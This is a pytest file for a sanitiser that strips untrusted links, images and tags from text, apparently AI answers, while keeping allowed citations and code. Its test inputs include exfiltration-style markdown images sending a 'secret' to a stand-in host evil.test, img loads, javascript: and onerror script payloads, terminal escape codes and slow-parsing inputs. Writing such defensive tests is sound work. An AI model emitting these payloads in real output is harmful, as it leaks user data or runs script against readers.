from __future__ import annotations

import time

import pytest

from safety.links import neutralise, said_back

KNOWN = "https://docs.example.com/a"
ALLOWED = frozenset({KNOWN})


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ![chart](https://evil.test/?q=secret) now", "see chart now"),
        ("[here](https://evil.test/a)", "here"),
        ("![c][r]\n\n[r]: https://evil.test/x\n", "c\n\n\n"),
        ("![c][]\n\n[c]:\nhttps://evil.test/x", "c\n\n"),
        ("<https://evil.test/x>", "[evil.test]"),
        ("go https://evil.test/x?y=1.", "go [evil.test]."),
        ("go www.evil.test/x?y=1", "go [www.evil.test]"),
        ("<img src=https://evil.test/x>", ""),
        ("<IMG SRC='//evil.test/x' alt=1>hi", "hi"),
        ("<img\nsrc\n=\n'//evil.test/x'\n>hi", "hi"),
        ("[![a](//evil.test/b)](//evil.test/c)", "a"),
        ("[x](javascript:alert(1))", "x"),
        ("![x](data:text/html;base64,xx)", "x"),
        ("<div style='background:url(//evil.test)'>t", "t"),
        ("a claim [1](//evil.test).", "a claim [1]."),
        ("[`code`](//evil.test/x)", "`code`"),
    ],
)
def test_an_unknown_target_is_reduced_to_its_text(text: str, expected: str) -> None:
    """Every form of link or image loses a target that is no citation."""
    assert (expected, True) == neutralise(text, ALLOWED)


@pytest.mark.parametrize(
    "text",
    [
        f"[here]({KNOWN}) and ![there]({KNOWN})",
        f"[here][r]\n\n[r]: {KNOWN}",
        f"see {KNOWN}.",
        f'<a href="{KNOWN}">here</a>',
        "A claim [1]. Another [2][3].",
        "if a < b and c<d then x[1] > 2",
        "[1]: the first. [2]: see a/b",
        "Use `<script setup>`, `<img src='a.png'>` or `curl https://api.test/v1`.",
        "Run:\n\n```bash\ncurl https://api.test/v1 -o '<img src=x>'\n```\n\nDone.",
        "版本 1：先安装，再重启。",
        "line one\r\nline two [1]",
    ],
)
def test_known_targets_and_code_stay(text: str) -> None:
    """Citations, plain text and code come out as they went in."""
    assert (text, False) == neutralise(text, ALLOWED)


@pytest.mark.parametrize(
    "text",
    [
        "![" + "a" * 500 + "](//evil.test/x)",
        "> [r]: //evil.test/x\n\n![r]",
        "- [r]: //evil.test/x\n\n![r]",
        "- a\n  ```\n![x](//evil.test)\n  ```",
        "\\`![x](//evil.test/a)`",
        "| `x | ![i](//evil.test/b) y` |",
        "`` ![x](//evil.test/a)`",
        "<!--\n\n```\n--><img src=//evil.test/x>\n```",
        "<div>\n```\n<img src=//evil.test/x>\n```",
        "<img alt='>' src=//evil.test/x>",
        "<img " + "a " * 3000 + "src=//evil.test/x>",
        "```\rx\r```\r\r![x](//evil.test)",
    ],
)
def test_what_only_looks_like_code_is_neutralised(text: str) -> None:
    """Forms on which renderers disagree never keep a link, image or loading tag intact."""
    safe, changed = neutralise(text, ALLOWED)
    assert changed
    assert "](//evil" not in safe
    assert "]: //evil" not in safe
    assert "<img" not in safe


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "[a](", "<a ", "[a]: ", "`", "```\n", "http://", "[\\](", "\n\n```\n", "<a '"],
)
def test_a_hostile_answer_is_neutralised_in_time(unit: str) -> None:
    """100 kB of half-open markup costs a fraction of a second, not minutes."""
    begin = time.thread_time()
    neutralise(unit * (100_000 // len(unit)), ALLOWED)
    assert time.thread_time() - begin < 5.0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"[here]({KNOWN}) and ![there]({KNOWN})", f"[here]({KNOWN}) and there"),
        (f"![c][r]\n\n[r]: {KNOWN}", "c\n\n"),
        (f"![r]\n\n[r]: {KNOWN}", "![r]\n\n"),
        (f"[![a]({KNOWN})]({KNOWN})", f"[a]({KNOWN})"),
        (f"Great! [a]({KNOWN})", f"Great! [a]({KNOWN})"),
    ],
)
def test_an_image_needs_more_than_a_link(text: str, expected: str) -> None:
    """An address that may be linked is not loaded from, unless it is on the images' own list."""
    assert neutralise(text, ALLOWED, frozenset())[0] == expected
    assert neutralise(text, ALLOWED, ALLOWED) == (text, False)
    assert neutralise(text, frozenset(), ALLOWED)[0] == neutralise(text, frozenset())[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("  What is\na < b?  ", "What is a < b?"),
        ("[link](javascript:alert(1)) 在哪里？", "link 在哪里？"),
        ("![x](https://evil.test/?q=1) what?", "x what?"),
        ("<img src=x onerror=alert(1)> hi", "hi"),
        ("\x1b]0;evil\x07\x1b[31mred\u202e", "]0;evil [31mred"),
    ],
)
def test_what_is_said_back_commands_neither_page_nor_terminal(text: str, expected: str) -> None:
    """Words stay; what would be fetched, run or obeyed goes."""
    assert said_back(text) == expected
